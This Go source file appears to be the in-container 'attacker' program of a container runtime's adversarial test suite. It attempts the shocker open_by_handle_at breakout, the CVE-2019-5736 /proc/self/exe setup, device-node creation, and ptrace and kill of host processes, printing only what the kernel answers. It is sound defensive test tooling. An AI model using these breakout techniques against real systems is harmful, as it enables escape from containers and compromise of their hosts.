// Command attacker is what the adversarial suite runs inside containers:
// a static program (CGO_ENABLED=0, so it needs nothing from the image)
// that tries one attack per subcommand and prints, one line per attempt,
// what the kernel answered. It judges nothing; the tests read its lines.
//
// Started under any name other than "attacker" (a copy planted over a
// container's /bin/sh, say), it leaves a marker file in markerDir, set
// at build time with -ldflags -X main.markerDir=DIR, and exits 0: a marker
// on the host means the host ran a container's binary.
//
// The Go runtime's cgroup-aware GOMAXPROCS is off: it keeps cgroup files
// open, and the attacker must hold no descriptor of its own when it lists
// them.
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// markerDir is where a planted copy leaves its marker (see the package
// comment); empty: nowhere.
var markerDir string

func main() {
	if filepath.Base(os.Args[0]) != "attacker" {
		plantedMarker()
		return
	}
	if len(os.Args) < 2 {
		fail("usage: attacker fds [OUT]|syscalls|shocker|devices|mknod|exe-watch|outside|swap ...")
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "fds":
		// Listed first, written after: the output file is opened last.
		var b strings.Builder
		listFds(&b, "self")
		listFds(&b, "1")
		if len(args) == 1 {
			if err := os.WriteFile(args[0], []byte(b.String()), 0o644); err != nil {
				fail(err.Error())
			}
		} else {
			fmt.Print(b.String())
		}
	case "syscalls":
		trySyscalls()
	case "shocker":
		shocker(args)
	case "devices":
		listDevices("/dev")
	case "mknod":
		mknodOpen(args)
	case "exe-watch":
		exeWatch(args)
	case "outside":
		outside(args)
	case "swap":
		swap(args)
	default:
		fail("unknown subcommand " + os.Args[1])
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "attacker:", msg)
	os.Exit(2)
}

// result names what a system call answered: "ok" or the errno's name.
func result(err error) string {
	if err == nil {
		return "ok"
	}
	var errno unix.Errno
	if errors.As(err, &errno) {
		if name := unix.ErrnoName(errno); name != "" {
			return name
		}
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

// plantedMarker records that this copy ran: it writes
// markerDir/<name>-<pid>, creating markerDir.
func plantedMarker() {
	if markerDir == "" {
		return
	}
	os.MkdirAll(markerDir, 0o755)
	name := fmt.Sprintf("%s-%d", filepath.Base(os.Args[0]), os.Getpid())
	os.WriteFile(filepath.Join(markerDir, name), []byte(strings.Join(os.Args, " ")+"\n"), 0o644)
}

// listFds writes every open descriptor of /proc/<who>/fd to w as
// "fd WHO N KIND TARGET", where KIND is the type of the open file (dir,
// file, fifo, sock, chr, blk, other) or the error reaching it. The
// descriptor used to read the directory is printed as KIND "listing".
// Raw system calls only: the Go runtime's poller would add descriptors.
func listFds(w io.Writer, who string) {
	dir := "/proc/" + who + "/fd"
	dfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintf(w, "fd %s - open-dir-%s\n", who, result(err))
		return
	}
	defer unix.Close(dfd)
	buf := make([]byte, 8192)
	for {
		n, err := unix.Getdents(dfd, buf)
		if err != nil || n == 0 {
			break
		}
		var names []string
		_, _, names = unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			path := dir + "/" + name
			target, _ := os.Readlink(path)
			kind := "other"
			var st unix.Stat_t
			if err := unix.Stat(path, &st); err != nil {
				kind = "stat-" + result(err)
			} else {
				switch st.Mode & unix.S_IFMT {
				case unix.S_IFDIR:
					kind = "dir"
				case unix.S_IFREG:
					kind = "file"
				case unix.S_IFIFO:
					kind = "fifo"
				case unix.S_IFSOCK:
					kind = "sock"
				case unix.S_IFCHR:
					kind = "chr"
				case unix.S_IFBLK:
					kind = "blk"
				}
			}
			isSelf := who == "self" || who == strconv.Itoa(os.Getpid())
			if isSelf && name == strconv.Itoa(dfd) {
				kind = "listing"
			}
			fmt.Fprintf(w, "fd %s %s %s %s\n", who, name, kind, target)
		}
	}
}

// shocker is the 2014 "shocker" breakout: open_by_handle_at with a
// handle for inode 2 (the root of an ext4 file system) on a descriptor
// of a file that the host bind-mounts into the container (args[0], e.g.
// /etc/hosts) opens the root of the host's file system. It prints
// "shocker RESULT" and, on success, the names it could list there.
func shocker(args []string) {
	if len(args) != 1 {
		fail("usage: attacker shocker PATH")
	}
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Printf("shocker open-%s\n", result(err))
		return
	}
	defer unix.Close(fd)
	_, _, err = unix.NameToHandleAt(fd, "", unix.AT_EMPTY_PATH)
	fmt.Printf("name_to_handle_at %s\n", result(err))
	// FILEID_INO32_GEN: a 32-bit inode number and generation.
	handle := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	root, err := unix.OpenByHandleAt(fd, handle, unix.O_RDONLY|unix.O_DIRECTORY)
	fmt.Printf("shocker %s\n", result(err))
	if err == nil {
		defer unix.Close(root)
		buf := make([]byte, 4096)
		n, _ := unix.Getdents(root, buf)
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		fmt.Printf("shocker-listing %s\n", strings.Join(names, " "))
	}
}

// listDevices prints each device node under dir as "dev PATH TYPE
// MAJOR:MINOR".
func listDevices(dir string) {
	filepath.Walk(dir, func(path string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		var st unix.Stat_t
		if unix.Lstat(path, &st) != nil {
			return nil
		}
		typ := ""
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFCHR:
			typ = "c"
		case unix.S_IFBLK:
			typ = "b"
		default:
			return nil
		}
		fmt.Printf("dev %s %s %d:%d\n", path, typ, unix.Major(st.Rdev), unix.Minor(st.Rdev))
		return nil
	})
}

// mknodOpen makes a device node (args: PATH b|c MAJOR MINOR) and opens
// it for reading: "mknod PATH RESULT", "open PATH RESULT", and on a
// successful open "read PATH RESULT".
func mknodOpen(args []string) {
	if len(args) != 4 {
		fail("usage: attacker mknod PATH b|c MAJOR MINOR")
	}
	major, _ := strconv.Atoi(args[2])
	minor, _ := strconv.Atoi(args[3])
	mode := uint32(unix.S_IFCHR)
	if args[1] == "b" {
		mode = unix.S_IFBLK
	}
	err := unix.Mknod(args[0], mode|0o600, int(unix.Mkdev(uint32(major), uint32(minor))))
	fmt.Printf("mknod %s %s\n", args[0], result(err))
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	fmt.Printf("open %s %s\n", args[0], result(err))
	if err == nil {
		b := make([]byte, 512)
		_, err := unix.Read(fd, b)
		fmt.Printf("read %s %s\n", args[0], result(err))
		unix.Close(fd)
	}
}

// outside probes processes outside the container by their host pids:
// args are PID[:kill] words; each pid gets a signal 0, ptrace attach,
// pidfd_open and, with ":kill", SIGKILL. Lines: "outside PID OP RESULT".
func outside(args []string) {
	for _, a := range args {
		p, kill := strings.CutSuffix(a, ":kill")
		pid, err := strconv.Atoi(p)
		if err != nil {
			fail("bad pid " + a)
		}
		fmt.Printf("outside %d signal0 %s\n", pid, result(unix.Kill(pid, 0)))
		err = unix.PtraceAttach(pid)
		fmt.Printf("outside %d ptrace %s\n", pid, result(err))
		if err == nil {
			unix.PtraceDetach(pid)
		}
		fd, err := unix.PidfdOpen(pid, 0)
		fmt.Printf("outside %d pidfd_open %s\n", pid, result(err))
		if err == nil {
			unix.Close(fd)
		}
		if kill {
			fmt.Printf("outside %d kill %s\n", pid, result(unix.Kill(pid, unix.SIGKILL)))
		}
	}
}

// exeWatch is the CVE-2019-5736 attack. args: PLANT SECONDS. It writes
// "#!/proc/self/exe" to PLANT, so that a process executing PLANT runs
// whatever binary it was running before: when the runtime executes PLANT
// for `exec`, its own binary. Then, until /tmp/done exists or SECONDS
// pass, it opens the exe of every new process in the container with
// O_PATH and tries to reopen each for writing, directly and through the
// O_PATH descriptor after the process is gone. Lines: "proc PID EXE
// path:RESULT write:RESULT", "reopen PID RESULT" (the last answer per
// process), and "summary seen=N held=N writable=N".
func exeWatch(args []string) {
	if len(args) != 2 {
		fail("usage: attacker exe-watch PLANT SECONDS")
	}
	if err := os.WriteFile(args[0], []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		fail(err.Error())
	}
	secs, _ := strconv.Atoi(args[1])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	self := os.Getpid()
	seen := map[int]bool{self: true, 1: true} // and the new ones
	news := 0
	held := map[int]int{}        // pid: O_PATH descriptor of its exe
	reopened := map[int]string{} // pid: last answer to the reopen for writing
	writable := 0
	fmt.Println("ready")
	for time.Now().Before(deadline) {
		if _, err := os.Stat("/tmp/done"); err == nil {
			break
		}
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || seen[pid] {
				continue
			}
			seen[pid] = true
			news++
			exe := "/proc/" + e.Name() + "/exe"
			target, _ := os.Readlink(exe)
			pfd, perr := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			wfd, werr := unix.Open(exe, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if werr == nil {
				writable++
				unix.Close(wfd)
			}
			fmt.Printf("proc %d %s path:%s write:%s\n", pid, target, result(perr), result(werr))
			if perr == nil {
				held[pid] = pfd
			}
		}
		for pid, pfd := range held {
			wfd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", pfd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				writable++
				unix.Close(wfd)
			}
			reopened[pid] = result(err)
		}
		time.Sleep(200 * time.Microsecond)
	}
	for pid, r := range reopened {
		fmt.Printf("reopen %d %s\n", pid, r)
	}
	fmt.Printf("summary seen=%d held=%d writable=%d\n", news, len(held), writable)
}
